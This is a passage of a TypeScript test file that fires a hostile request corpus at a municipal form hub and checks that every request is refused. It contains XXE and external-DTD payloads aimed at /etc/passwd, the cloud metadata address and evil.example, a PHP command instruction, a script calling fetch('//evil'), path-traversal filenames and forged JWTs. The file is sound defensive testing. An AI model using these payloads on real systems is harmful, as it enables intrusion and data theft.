import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { ListObjectsV2Command } from '@aws-sdk/client-s3';
import { GetQueueAttributesCommand } from '@aws-sdk/client-sqs';
import { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { type CryptoKey, type JWK, SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Hub, startHub } from '../../infra/local/hub.ts';
import { buildRegistry } from '../../shared/config/registry.ts';
import { runRetention } from '../../shared/retention/cleanup.ts';
import { SubmissionStore } from '../../shared/store/submissions.ts';
import { hubTokens, newDataDir, type Sample, sample, type Who } from '../support/hub.ts';
import { report } from '../support/report.ts';
import { securityConfig } from './fixtures/config.ts';
import { grant, HOSTILE_CLIENTS, maskinportenSigningKey } from './fixtures/maskinporten.ts';

/**
 * The hostile corpus: every request here must be refused with a 4xx problem+json, the hub must stay up, and
 * afterwards the data dir, the table, the queues and the bucket must hold nothing from any of them. Each
 * request carries the marker "hostile-" (in its submissionId, or its raw body), which is what the final
 * checks look for, byte by byte.
 */

const MARKER = 'hostile-';
const HOSTILE_NAME = 'Hostilia Ondsinnet';
const HOSTILE_FNR = '15067700020';
/** Personal data of the samples and of the corpus: never in a log line, never in an error body. */
const NEVER_LOGGED = [
  HOSTILE_FNR,
  HOSTILE_NAME,
  '12035440095',
  '01118740080',
  '29029240181',
  'Østby-Lærum',
  'Åse Marie',
  'Ødegård',
  'Randi Sommerseth',
];

let hub: Hub;
/** The local Maskinporten's signing key and issuer: tokens it would sign, with claims its grant never gives */
let keys: { privateKey: CryptoKey; publicJwk: JWK };
let settings: { issuer: string; audience: string };
let token: (who: Who) => Promise<string>;
let tt: Sample;
let building: Sample;
const captured: string[] = [];
const original = { out: process.stdout.write.bind(process.stdout), err: process.stderr.write.bind(process.stderr) };
const controls: string[] = [];
const timings: number[] = [];

beforeAll(async () => {
  const capture =
    (write: typeof original.out) =>
    (chunk: unknown, ...rest: unknown[]) => {
      captured.push(String(chunk));
      return write(chunk as string, ...(rest as []));
    };
  process.stdout.write = capture(original.out) as typeof process.stdout.write;
  process.stderr.write = capture(original.err) as typeof process.stderr.write;
  const dataDir = await newDataDir();
  hub = await startHub({
    port: 0,
    dataDir,
    configPath: await securityConfig(),
    log: (line) => captured.push(line),
    retentionIntervalMs: 0,
    maskinportenClients: HOSTILE_CLIENTS,
  });
  keys = await maskinportenSigningKey(dataDir);
  settings = hub.maskinporten;
  token = await hubTokens(hub);
  tt = await sample('tt-kort-soknad');
  building = await sample('soknad-tiltak-uten-ansvarsrett');
});

afterAll(async () => {
  await hub?.stop();
  process.stdout.write = original.out as typeof process.stdout.write;
  process.stderr.write = original.err as typeof process.stderr.write;
  if (process.env.SKJEMAFLYT_REPORT_TIMINGS) {
    report(`hostile corpus: ${timings.length} requests, slowest ${Math.max(...timings).toFixed(0)} ms`);
  }
});

// ---- talking to the hub ----

interface Answer {
  status: number;
  contentType: string | null;
  nosniff: boolean;
  text: string;
  body: any;
}

async function send(
  options: {
    method?: string;
    path?: string;
    body?: string | Buffer;
    contentType?: string | null;
    authorization?: string | null;
    provider?: string;
  } = {},
): Promise<Answer> {
  const headers: Record<string, string> = {};
  const contentType = options.contentType === undefined ? 'application/json' : options.contentType;
  if (contentType) headers['content-type'] = contentType;
  const authorization =
    options.authorization === undefined
      ? `Bearer ${await token({ provider: options.provider ?? 'eskjema' })}`
      : options.authorization;
  if (authorization) headers.authorization = authorization;
  const started = performance.now();
  const response = await fetch(`${hub.url}${options.path ?? '/v1/submissions'}`, {
    method: options.method ?? 'POST',
    headers,
    ...(options.body !== undefined ? { body: options.body } : {}),
  });
  const text = await response.text();
  timings.push(performance.now() - started);
  let body: unknown;
  try {
    body = JSON.parse(text);
  } catch {
    body = undefined;
  }
  return {
    status: response.status,
    contentType: response.headers.get('content-type'),
    nosniff: response.headers.get('x-content-type-options') === 'nosniff',
    text,
    body,
  };
}

const post = (body: unknown, options: Parameters<typeof send>[0] = {}) =>
  send({ ...options, body: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body) });

async function waitForStatus(trackingId: string, provider: string, wanted: string): Promise<any> {
  for (let i = 0; i < 300; i++) {
    const answer = await send({ method: 'GET', path: `/v1/submissions/${trackingId}`, provider });
    if (answer.body?.status === wanted) return answer.body;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`${trackingId} never reached ${wanted}`);
}

// ---- building hostile requests ----

let counter = 0;
const id = () => `${MARKER}${++counter}`;

/** The TT-kort sample as a hostile provider sends it, changed by `edit`. */
function ttKort(edit: (body: any) => void = () => {}): any {
  const body = structuredClone(tt) as any;
  body.submissionId = id();
  body.submitter = { ...body.submitter, name: HOSTILE_NAME, nationalId: HOSTILE_FNR };
  edit(body);
  return body;
}

/** The TT-kort form data with `fragment` inserted (`where`: after the declaration, or inside <behov>). */
function ttXml(fragment: string, where: 'prolog' | 'behov' = 'behov'): string {
  const content = (tt.formData as { content: string }).content;
  return where === 'prolog'
    ? content.replace('?>\n', `?>\n${fragment}\n`)
    : content.replace('<behov>', `<behov>${fragment}`);
}

const withXml = (content: string) => ttKort((b) => (b.formData.content = content));
const pdf = (text: string) => Buffer.from(`%PDF-1.4\n${text}`).toString('base64');
const withAttachment = (attachment: Record<string, unknown>) =>
  ttKort((b) => {
    b.attachments[1] = { ...b.attachments[1], ...attachment };
  });

/** A submission of the JSON form type (Sarpsborg), form data as given. */
const jsonForm = (content: string) => ({
  submissionId: id(),
  formType: 'melding-json',
  municipality: '3105',
  submittedAt: '2026-11-24T10:15:00+01:00',
  submitter: { name: HOSTILE_NAME },
  formData: { contentType: 'application/json', content },
});

/** The Levanger building sample as a hostile provider sends it: `municipality`, and its form data changed by `edit`. */
function buildingFor(municipality: string, edit: (xml: string) => string): any {
  const body = structuredClone(building) as any;
  body.submissionId = id();
  body.municipality = municipality;
  body.formData.content = edit(body.formData.content);
  return body;
}
const propertyIn = (kommunenummer: string) => (xml: string) =>
  xml.replace('<kommunenummer>5037</kommunenummer>', `<kommunenummer>${kommunenummer}</kommunenummer>`);

/** Raw JSON text of a TT-kort body with `replace` applied to the serialised text. */
const rawTtKort = (from: string, to: string) => JSON.stringify(ttKort()).replace(from, to);

const now = () => Math.floor(Date.now() / 1000);
const b64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
/** What the local Maskinporten gives the e-form vendor acting for Halden (config/halden.json). */
const organisation = (orgnr: string) => ({ authority: 'iso6523-actorid-upis', ID: `0192:${orgnr}` });
const providerClaims = {
  scope: 'halden:skjemaflyt',
  client_id: 'eskjema-310123455',
  consumer: organisation('959159092'),
  supplier: organisation('310123455'),
};
const jwt = (edit: (j: SignJWT) => SignJWT, claims: Record<string, unknown> = providerClaims) =>
  edit(
    new SignJWT(claims)
      .setProtectedHeader({ alg: 'RS256', kid: keys.publicJwk.kid ?? '' })
      .setIssuer(settings.issuer)
      .setAudience(settings.audience)
      .setSubject('provider:eskjema')
      .setIssuedAt()
      .setExpirationTime('1h'),
  ).sign(keys.privateKey);

const HOSTILE_UUID = '0badc0de-0000-4000-8000-000000000000';

/** An admin call of Halden's admin, body as JSON text. */
const admin = async (method: string, path: string, body?: string) =>
  send({
    method,
    path,
    authorization: `Bearer ${await token({ admin: ['3101'] })}`,
    ...(body === undefined ? { contentType: null } : { body }),
  });

/** A page cursor as the admin list hands them out (base64url JSON of the index position), for Halden's FAILED list. */
const cursor = (key: Record<string, string>) =>
  Buffer.from(JSON.stringify({ gsi1pk: 'ADMIN#3101#FAILED', ...key })).toString('base64url');

interface HostileCase {
  name: string;
  status: number;
  /** A field the answer must name */
  path?: string;
  send(): Promise<Answer>;
}

const corpus: HostileCase[] = [
  // ---- size ----
  {
    name: 'body over the limit (3 MB, limit 2 MB)',
    status: 413,
    send: () => post(ttKort((b) => (b.submitter.address = { street: 'x'.repeat(3 * 1024 * 1024) }))),
  },
  {
    name: '10 MB base64 attachment',
    status: 413,
    send: () => post(withAttachment({ contentBase64: Buffer.alloc(10 * 1024 * 1024, 0x25).toString('base64') })),
  },
  {
    name: 'one attachment over its limit (700 KB, limit 512 KB), body under the body limit',
    status: 413,
    path: '/attachments/1/contentBase64',
    send: () => post(withAttachment({ contentBase64: pdf('x'.repeat(700 * 1024)) })),
  },
  {
    name: 'six attachments (limit 5)',
    status: 413,
    path: '/attachments',
    send: () =>
      post(
        ttKort((b) => {
          for (let i = 0; i < 4; i++) b.attachments.push({ ...b.attachments[1], filename: `v${i}.pdf` });
        }),
      ),
  },
  {
    name: 'form data over its limit (100 KB, limit 64 KB)',
    status: 413,
    path: '/formData/content',
    send: () => post(withXml(ttXml(`<fyll>${'x'.repeat(1000)}</fyll>`.repeat(100)))),
  },
  // ---- the body itself ----
  { name: 'empty body', status: 400, send: () => post('') },
  { name: 'not JSON', status: 400, send: () => post(`submissionId=${id()}&name=x`) },
  { name: 'a JSON array', status: 400, send: () => post(`[{"submissionId":"${id()}"}]`) },
  { name: 'JSON null', status: 400, send: () => post(`null ${'\n'.repeat(0)}`) },
  { name: 'text/plain', status: 415, send: () => post(ttKort(), { contentType: 'text/plain' }) },
  {
    name: 'a charset other than UTF-8',
    status: 415,
    send: () => post(ttKort(), { contentType: 'application/json; charset=iso-8859-1' }),
  },
  { name: 'no content type', status: 415, send: () => post(ttKort(), { contentType: null }) },
  {
    name: 'invalid UTF-8: a Latin-1 ø in the name',
    status: 400,
    send: () =>
      post(Buffer.concat([Buffer.from(rawTtKort(HOSTILE_NAME, 'S')), Buffer.from([0xf8])]).subarray(0)).then((a) => a),
  },
  {
    name: 'invalid UTF-8: an overlong encoding of "/"',
    status: 400,
    send: () => {
      const [head, tail] = rawTtKort(HOSTILE_NAME, '\u0001SPLIT\u0001').split('\\u0001SPLIT\\u0001');
      return post(Buffer.concat([Buffer.from(head ?? ''), Buffer.from([0xc0, 0xaf]), Buffer.from(tail ?? '')]));
    },
  },
  {
    name: 'invalid UTF-8: an encoded surrogate',
    status: 400,
    send: () => {
      const [head, tail] = rawTtKort(HOSTILE_NAME, '\u0001SPLIT\u0001').split('\\u0001SPLIT\\u0001');
      return post(Buffer.concat([Buffer.from(head ?? ''), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(tail ?? '')]));
    },
  },
  {
    name: 'a UTF-16 body',
    status: 400,
    send: () => post(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(ttKort()), 'utf16le')])),
  },
  {
    name: 'U+FFFD in the body (bad bytes already replaced on the way)',
    status: 400,
    send: () => post(ttKort((b) => (b.submitter.name = 'S\uFFFDther'))),
  },
  {
    name: 'a lone surrogate escaped in the name',
    status: 400,
    path: '/submitter/name',
    send: () => post(rawTtKort(HOSTILE_NAME, 'Ola\\ud800')),
  },
  // ---- JSON that means two things ----
  {
    name: 'duplicate key: municipality twice',
    status: 400,
    path: '/municipality',
    send: () => post(rawTtKort('"municipality":"3101"', '"municipality":"3101","municipality":"5037"')),
  },
  {
    name: 'duplicate key: nationalId twice',
    status: 400,
    path: '/submitter/nationalId',
    send: () =>
      post(rawTtKort(`"nationalId":"${HOSTILE_FNR}"`, `"nationalId":"${HOSTILE_FNR}","nationalId":"12035440095"`)),
  },
  {
    name: 'duplicate key hidden by an escape',
    status: 400,
    path: '/formType',
    send: () => post(rawTtKort('"formType":"tt-kort-soknad"', '"formType":"tt-kort-soknad","form\\u0054ype":"x"')),
  },
  {
    name: '__proto__ at the top',
    status: 400,
    path: '/__proto__',
    send: () => post(rawTtKort('{"submissionId"', '{"__proto__":{"admin":true},"submissionId"')),
  },
  {
    name: '__proto__ escaped, in the submitter',
    status: 400,
    send: () => post(rawTtKort('"submitter":{', '"submitter":{"__pro\\u0074o__":{"polluted":1},')),
  },
  {
    name: 'constructor.prototype',
    status: 400,
    send: () => post(rawTtKort('{"submissionId"', '{"constructor":{"prototype":{"x":1}},"submissionId"')),
  },
  {
    name: 'a body nested 100 000 deep',
    status: 400,
    send: () => post(`{"submissionId":"${id()}","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
  },
  // ---- JSON form data ----
  {
    name: 'JSON form data with a duplicate key',
    status: 400,
    path: '/formData/content/melding/tekst',
    send: () => post(jsonForm('{"melding":{"tekst":"a","tekst":"b"}}'), { provider: 'json-skjema' }),
  },
  {
    name: 'JSON form data with __proto__',
    status: 400,
    send: () => post(jsonForm('{"melding":{"tekst":"a"},"__proto__":{"isAdmin":true}}'), { provider: 'json-skjema' }),
  },
  {
    name: 'JSON form data nested deeper than the limit',
    status: 400,
    send: () =>
      post(jsonForm(`{"melding":{"tekst":"a"},"x":${'['.repeat(40)}${']'.repeat(40)}}`), { provider: 'json-skjema' }),
  },
  {
    name: 'JSON form data with more values than the limit',
    status: 413,
    send: () => post(jsonForm(`{"melding":{"tekst":"a"},"x":[${'1,'.repeat(600)}1]}`), { provider: 'json-skjema' }),
  },
  {
    name: 'JSON form data with an overlong string',
    status: 400,
    path: '/formData/content/melding/tekst',
    send: () => post(jsonForm(JSON.stringify({ melding: { tekst: 'å'.repeat(2500) } })), { provider: 'json-skjema' }),
  },
  {
    name: 'JSON form data with a zero-width space in a key',
    status: 400,
    path: '/formData/content/melding/te\\u{200B}kst',
    send: () =>
      post(jsonForm(JSON.stringify({ melding: { tekst: 'a', 'te\u200Bkst': 'b' } })), { provider: 'json-skjema' }),
  },
  {
    name: 'JSON form data with a right-to-left override in a key',
    status: 400,
    send: () =>
      post(jsonForm(JSON.stringify({ melding: { tekst: 'a', '\u202Etekst': 'b' } })), { provider: 'json-skjema' }),
  },
  {
    name: 'JSON form data with a right-to-left override',
    status: 400,
    path: '/formData/content/melding/tekst',
    send: () => post(jsonForm(JSON.stringify({ melding: { tekst: 'abc\u202Efdp.exe' } })), { provider: 'json-skjema' }),
  },
  // ---- XML form data ----
  {
    name: 'billion laughs',
    status: 400,
    path: '/formData/content',
    send: () =>
      post(
        withXml(
          ttXml(
            '<!DOCTYPE melding [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
            'prolog',
          ).replace('<begrunnelse>', '<begrunnelse>&lol3;'),
        ),
      ),
  },
  {
    name: 'external entity (XXE) to /etc/passwd',
    status: 400,
    send: () =>
      post(
        withXml(
          ttXml('<!DOCTYPE melding [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 'prolog').replace(
            '<fornavn>',
            '<fornavn>&xxe;',
          ),
        ),
      ),
  },
  {
    name: 'external DTD over HTTP',
    status: 400,
    send: () => post(withXml(ttXml('<!DOCTYPE melding SYSTEM "http://169.254.169.254/latest/meta-data/">', 'prolog'))),
  },
  {
    name: 'parameter entity',
    status: 400,
    send: () =>
      post(withXml(ttXml('<!DOCTYPE melding [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>', 'prolog'))),
  },
  {
    name: 'XInclude',
    status: 400,
    send: () =>
      post(
        withXml(
          ttXml(
            '<vedlegg xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></vedlegg>',
          ),
        ),
      ),
  },
  {
    name: 'xml-stylesheet pointing outside',
    status: 400,
    send: () => post(withXml(ttXml('<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>', 'prolog'))),
  },
  { name: 'another processing instruction', status: 400, send: () => post(withXml(ttXml('<?php system("id"); ?>'))) },
  {
    name: 'XML nested 5000 deep',
    status: 400,
    send: () => post(withXml(ttXml(`${'<n>'.repeat(5000)}${'</n>'.repeat(5000)}`))),
  },
  {
    name: 'XML with more elements than the limit (600, limit 500)',
    status: 413,
    send: () => post(withXml(ttXml('<h/>'.repeat(600)))),
  },
  {
    name: 'XML with 600 attributes on one element (they count with the elements, limit 500)',
    status: 413,
    path: '/formData/content',
    send: () => post(withXml(ttXml(`<h${Array.from({ length: 600 }, (_, i) => ` a${i}="x"`).join('')}/>`))),
  },
  // ---- the form-data contract (shared/contract/): undeclared elements and values of the wrong type ----
  {
    name: 'TT-kort with misnamed address elements (<gate>, <postnr>): refused, not dropped',
    status: 422,
    path: '/formData/content/soker/adresse/gate',
    send: () =>
      post(
        withXml(
          ttXml('')
            .replace(/(<\/?)gateadresse>/g, '$1gate>')
            .replace(/(<\/?)postnummer>/g, '$1postnr>'),
        ),
      ),
  },
  {
    name: 'an undeclared element smuggling a fødselsnummer past the rules',
    status: 422,
    path: '/formData/content/behov/ekstra',
    send: () => post(withXml(ttXml(`<ekstra><fnr>${HOSTILE_FNR}</fnr></ekstra>`))),
  },
  {
    name: 'a postnummer of letters',
    status: 422,
    path: '/formData/content/soker/adresse/postnummer',
    send: () => post(withXml(ttXml('').replace('<postnummer>1771</postnummer>', '<postnummer>ABCD</postnummer>'))),
  },
  {
    name: 'a group where a value belongs (<fornavn><a>…</a></fornavn>)',
    status: 422,
    path: '/formData/content/soker/fornavn',
    send: () => post(withXml(ttXml('').replace('<fornavn>Åse Marie</fornavn>', '<fornavn><a>Åse</a></fornavn>'))),
  },
  {
    name: 'a synthetic test person (Tenor) in production',
    status: 400,
    path: '/submitter/nationalId',
    send: () => post(ttKort((b) => (b.submitter.nationalId = '12835410062'))),
  },
  {
    name: 'a second <soker> whose fødselsnummer has a wrong control digit',
    status: 422,
    path: '/formData/content/soker/1/fodselsnummer',
    send: () =>
      post(
        withXml(
          ttXml('').replace(
            '<behov>',
            '<soker><fodselsnummer>12035440096</fodselsnummer><fornavn>Ola</fornavn><etternavn>Nordmann</etternavn></soker><behov>',
          ),
        ),
      ),
  },
  {
    name: 'XML with an overlong value',
    status: 400,
    path: '/formData/content/behov/begrunnelse',
    send: () =>
      post(
        withXml(ttXml('').replace(/<begrunnelse>.*<\/begrunnelse>/s, `<begrunnelse>${'ø'.repeat(2500)}</begrunnelse>`)),
      ),
  },
  {
    name: 'a right-to-left override as a character reference in a name',
    status: 400,
    path: '/formData/content/soker/fornavn',
    send: () => post(withXml(ttXml('').replace('<fornavn>', '<fornavn>&#x202E;'))),
  },
  {
    name: 'a control character as a character reference',
    status: 400,
    path: '/formData/content/soker/etternavn',
    send: () => post(withXml(ttXml('').replace('<etternavn>', '<etternavn>&#x1B;[2J'))),
  },
  {
    name: 'an element called __proto__',
    status: 400,
    send: () => post(withXml(ttXml('<__proto__><x>1</x></__proto__>'))),
  },
  { name: 'malformed XML', status: 400, send: () => post(withXml(ttXml('<ikke-lukket>'))) },
  {
    name: 'two root elements',
    status: 400,
    send: () => post(withXml(`${(tt.formData as { content: string }).content}<melding/>`)),
  },
  {
    name: 'JSON form data for an XML form type',
    status: 422,
    path: '/formData/contentType',
    send: () => post(ttKort((b) => (b.formData = { contentType: 'application/json', content: '{"soker":{}}' }))),
  },
  // ---- names and other text in the envelope ----
  {
    name: 'zero-width space in the name',
    status: 400,
    path: '/submitter/name',
    send: () => post(ttKort((b) => (b.submitter.name = 'Ola\u200BNordmann'))),
  },
  {
    name: 'right-to-left override in the name',
    status: 400,
    path: '/submitter/name',
    send: () => post(ttKort((b) => (b.submitter.name = 'Ola \u202Ennamdron'))),
  },
  {
    name: 'zero-width joiner in the name',
    status: 400,
    path: '/submitter/name',
    send: () => post(ttKort((b) => (b.submitter.name = 'Ola\u200DNordmann'))),
  },
  {
    name: 'bidi isolate in the street address',
    status: 400,
    path: '/submitter/address/street',
    send: () => post(ttKort((b) => (b.submitter.address = { street: 'Storgata \u2067 12' }))),
  },
  {
    name: 'NUL in the name',
    status: 400,
    path: '/submitter/name',
    send: () => post(ttKort((b) => (b.submitter.name = 'Ola\u0000Nordmann'))),
  },
  {
    name: 'right-to-left override in an attachment title',
    status: 400,
    path: '/attachments/1/title',
    send: () => post(withAttachment({ title: 'Legeerklæring\u202E' })),
  },
  {
    name: 'overlong name (10 000 characters)',
    status: 400,
    path: '/submitter/name',
    send: () => post(ttKort((b) => (b.submitter.name = 'Å'.repeat(10_000)))),
  },
  {
    name: 'overlong submissionId',
    status: 400,
    path: '/submissionId',
    send: () => post(ttKort((b) => (b.submissionId = `${MARKER}${'x'.repeat(500)}`))),
  },
  {
    name: 'submissionId with a line break',
    status: 400,
    path: '/submissionId',
    send: () => post(ttKort((b) => (b.submissionId = `${MARKER}a\r\nX-Injected: 1`))),
  },
  {
    name: 'an unknown envelope field',
    status: 400,
    path: '/isAdmin',
    send: () => post(ttKort((b) => (b.isAdmin = true))),
  },
  // ---- filenames ----
  ...[
    ['../../etc/passwd', 'path traversal'],
    ['..\\..\\windows\\win.ini', 'Windows path traversal'],
    ['/etc/passwd.pdf', 'an absolute path'],
    ['CON.pdf', 'a Windows device name'],
    ['nul.pdf', 'a device name in lower case'],
    ['COM1.pdf', 'COM1'],
    ['.htaccess', 'a hidden file'],
    ['faktura\u202Efdp.pdf', 'a right-to-left override'],
    ['vedlegg\u0007.pdf', 'a control character'],
    ['soknad.pdf.', 'a trailing dot'],
    ['passwd', 'no extension'],
    [' CON.pdf', 'a device name behind a space'],
    [' AUX.pdf', 'AUX behind a space'],
    ['ＣＯＮ.pdf', 'a fullwidth device name'],
    ['ｌｐｔ１.pdf', 'a fullwidth LPT1'],
    ['CØN.pdf', 'a name the archive’s ASCII turns into CoN'],
  ].map(
    ([filename, what]): HostileCase => ({
      name: `filename with ${what}`,
      status: 400,
      path: '/attachments/1/filename',
      send: () => post(withAttachment({ filename })),
    }),
  ),
  // ---- attachment content ----
  {
    // The penetration test's request: the base64 pattern backtracked for seconds on it (redos.test.ts checks
    // every pattern; this checks the request itself is refused, naming the field).
    name: 'base64 of "A", 100 000 CRLF and "!" (regular-expression backtracking)',
    status: 400,
    path: '/attachments/1/contentBase64',
    send: () => post(withAttachment({ contentBase64: `A${'\r\n'.repeat(100_000)}!` })),
  },
  {
    name: 'base64 of "A", 100 000 LF and "!"',
    status: 400,
    path: '/attachments/1/contentBase64',
    send: () => post(withAttachment({ contentBase64: `A${'\n'.repeat(100_000)}!` })),
  },
  {
    name: 'a PDF that is really HTML',
    status: 415,
    path: '/attachments/1/contentBase64',
    send: () =>
      post(
        withAttachment({
          contentBase64: Buffer.from('<html><script>fetch("//evil")</script></html>').toString('base64'),
        }),
      ),
  },
  {
    name: 'a PDF that is really a Windows program',
    status: 415,
    path: '/attachments/1/contentBase64',
    send: () =>
      post(withAttachment({ contentBase64: Buffer.from('MZ\x90\x00\x03\x00PE\x00\x00', 'latin1').toString('base64') })),
  },
  {
    name: 'a PNG that is really a JPEG',
    status: 415,
    path: '/attachments/1/contentBase64',
    send: () =>
      post(
        withAttachment({
          filename: 'bilde.png',
          contentType: 'image/png',
          contentBase64: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]).toString('base64'),
        }),
      ),
  },
  {
    name: 'an HTML attachment',
    status: 415,
    path: '/attachments/1/contentType',
    send: () =>
      post(
        withAttachment({
          filename: 'side.html',
          contentType: 'text/html',
          contentBase64: Buffer.from('<html>').toString('base64'),
        }),
      ),
  },
  {
    name: 'a program as attachment',
    status: 415,
    path: '/attachments/1/contentType',
    send: () =>
      post(
        withAttachment({
          filename: 'setup.exe',
          contentType: 'application/x-msdownload',
          contentBase64: Buffer.from('MZ').toString('base64'),
        }),
      ),
  },
  {
    name: 'not base64',
    status: 400,
    path: '/attachments/1/contentBase64',
    send: () => post(withAttachment({ contentBase64: '%%%<script>' })),
  },
  {
    name: 'two main documents',
    status: 400,
    path: '/attachments',
    send: () => post(ttKort((b) => (b.attachments[1].role = 'main'))),
  },
  {
    name: 'a submission dated in the future',
    status: 422,
    path: '/submittedAt',
    send: () => post(ttKort((b) => (b.submittedAt = '2999-01-01T12:00:00+01:00'))),
  },
  // ---- identifiers ----
  {
    name: 'fødselsnummer with a bad mod-11 control digit',
    status: 400,
    path: '/submitter/nationalId',
    send: () => post(ttKort((b) => (b.submitter.nationalId = '15067700021'))),
  },
  {
    name: 'fødselsnummer with ten digits',
    status: 400,
    path: '/submitter/nationalId',
    send: () => post(ttKort((b) => (b.submitter.nationalId = '1506770002'))),
  },
  {
    name: 'D-number with bad control digits',
    status: 400,
    path: '/submitter/nationalId',
    send: () => post(ttKort((b) => (b.submitter.nationalId = '41018000048'))),
  },
  {
    name: 'organisasjonsnummer with a bad mod-11 control digit',
    status: 400,
    path: '/submitter/organisationNumber',
    send: () => post(ttKort((b) => (b.submitter.organisationNumber = '959159093'))),
  },
  {
    name: 'fødselsnummer in the form data with a bad control digit',
    status: 422,
    path: '/formData/content/soker/fodselsnummer',
    send: () => post(withXml(ttXml('').replace('12035440095', '12035440096'))),
  },
  {
    name: 'unknown municipality 9999',
    status: 400,
    path: '/municipality',
    send: () => post(ttKort((b) => (b.municipality = '9999'))),
  },
  {
    name: 'municipality 0000',
    status: 400,
    path: '/municipality',
    send: () => post(ttKort((b) => (b.municipality = '0000'))),
  },
  {
    name: 'a real municipality the hub does not serve (Oslo)',
    status: 403,
    path: '/municipality',
    send: () => post(ttKort((b) => (b.municipality = '0301'))),
  },
  // ---- the folder and the person come from the form: they must agree with the envelope ----
  {
    name: 'TT-kort for another person: her fødselsnummer in <soker>, sent by someone else',
    status: 422,
    path: '/formData/content/soker/fodselsnummer',
    send: () => post(ttKort()),
  },
  {
    name: 'TT-kort from a submitter without a fødselsnummer',
    status: 422,
    path: '/submitter/nationalId',
    send: () => post(ttKort((b) => delete b.submitter.nationalId)),
  },
  {
    name: 'TT-kort with a <foresatt> who is not the submitter',
    status: 422,
    path: '/formData/content/foresatt/fodselsnummer',
    send: () =>
      post(
        withXml(
          ttXml('').replace('</soker>', '</soker><foresatt><fodselsnummer>01118740080</fodselsnummer></foresatt>'),
        ),
      ),
  },
  {
    name: 'TT-kort: the submitter in the first <soker>, another person in a second',
    status: 422,
    path: '/formData/content/soker/fodselsnummer',
    send: () =>
      post(
        withXml(
          ttXml('')
            .replace('12035440095', HOSTILE_FNR)
            .replace('</soker>', '</soker><soker><fodselsnummer>12035440095</fodselsnummer></soker>'),
        ),
      ),
  },
  {
    name: 'a Levanger building application for a Verdal property',
    status: 422,
    path: '/formData/content/eiendom/kommunenummer',
    send: () => post(buildingFor('5037', propertyIn('5038'))),
  },
  {
    name: 'a Halden property sent to Innherred',
    status: 422,
    path: '/formData/content/eiendom/kommunenummer',
    send: () => post(buildingFor('5037', propertyIn('3101'))),
  },
  {
    name: 'a Verdal building application for a Levanger property',
    status: 422,
    path: '/formData/content/eiendom/kommunenummer',
    send: () => post(buildingFor('5038', (xml) => xml)),
  },
  {
    name: 'a second <eiendom> in another municipality',
    status: 422,
    path: '/formData/content/eiendom/kommunenummer',
    send: () =>
      post(
        buildingFor('5037', (xml) =>
          xml.replace('</eiendom>', '</eiendom><eiendom><kommunenummer>5038</kommunenummer></eiendom>'),
        ),
      ),
  },
  // ---- tokens ----
  { name: 'no token', status: 401, send: () => post(ttKort(), { authorization: null }) },
  {
    name: 'Basic authentication',
    status: 401,
    send: () => post(ttKort(), { authorization: 'Basic ZXNramVtYTpwYXNz' }),
  },
  { name: 'a garbage token', status: 401, send: () => post(ttKort(), { authorization: 'Bearer hostile.token.here' }) },
  {
    name: 'an expired token',
    status: 401,
    send: async () =>
      post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setExpirationTime(now() - 3600))}` }),
  },
  {
    name: 'a token not valid yet',
    status: 401,
    send: async () => post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setNotBefore(now() + 3600))}` }),
  },
  {
    name: 'a token from another issuer',
    status: 401,
    send: async () =>
      post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setIssuer('https://evil.example'))}` }),
  },
  {
    name: 'a token for another audience',
    status: 401,
    send: async () => post(ttKort(), { authorization: `Bearer ${await jwt((j) => j.setAudience('other-api'))}` }),
  },
  {
    name: 'a token without expiry',
    status: 401,
    send: async () => {
      const unsigned = new SignJWT(providerClaims)
        .setProtectedHeader({ alg: 'RS256' })
        .setIssuer(settings.issuer)
        .setAudience(settings.audience);
      return post(ttKort(), { authorization: `Bearer ${await unsigned.sign(keys.privateKey)}` });
    },
  },
  {
    name: 'a token signed with another key',
    status: 401,
    send: async () => {
      const { generateKeyPair } = await import('jose');
      const other = await generateKeyPair('RS256');
      const forged = await new SignJWT(providerClaims)
        .setProtectedHeader({ alg: 'RS256', kid: keys.publicJwk.kid ?? '' })
        .setIssuer(settings.issuer)
        .setAudience(settings.audience)
        .setExpirationTime('1h')
        .sign(other.privateKey);
      return post(ttKort(), { authorization: `Bearer ${forged}` });
    },
  },
  {
    name: 'alg: none',
    status: 401,
    send: () => {
      const claims = { ...providerClaims, iss: settings.issuer, aud: settings.audience, exp: now() + 3600 };
      return post(ttKort(), { authorization: `Bearer ${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claims)}.` });
    },
  },
  {
    name: 'HS256 signed with the public key (algorithm confusion)',
    status: 401,
    send: async () => {
      const hs = await new SignJWT(providerClaims)
        .setProtectedHeader({ alg: 'HS256' })
        .setIssuer(settings.issuer)
        .setAudience(settings.audience)
        .setExpirationTime('1h')
        .sign(new TextEncoder().encode(JSON.stringify(keys.publicJwk)));
      return post(ttKort(), { authorization: `Bearer ${hs}` });
    },
  },
  {
    name: 'a tampered token (provider switched, signature kept)',
    status: 401,
    send: async () => {
      const [header, , signature] = (await token({ provider: 'eskjema' })).split('.');
      // The intranet's identity (Halden itself, no supplier), the vendor's signature kept.
      const { supplier: _, ...claims } = { ...providerClaims, client_id: '5b0e7c2a-3d41-4f7e-9a62-8c1d0e4b7f35' };
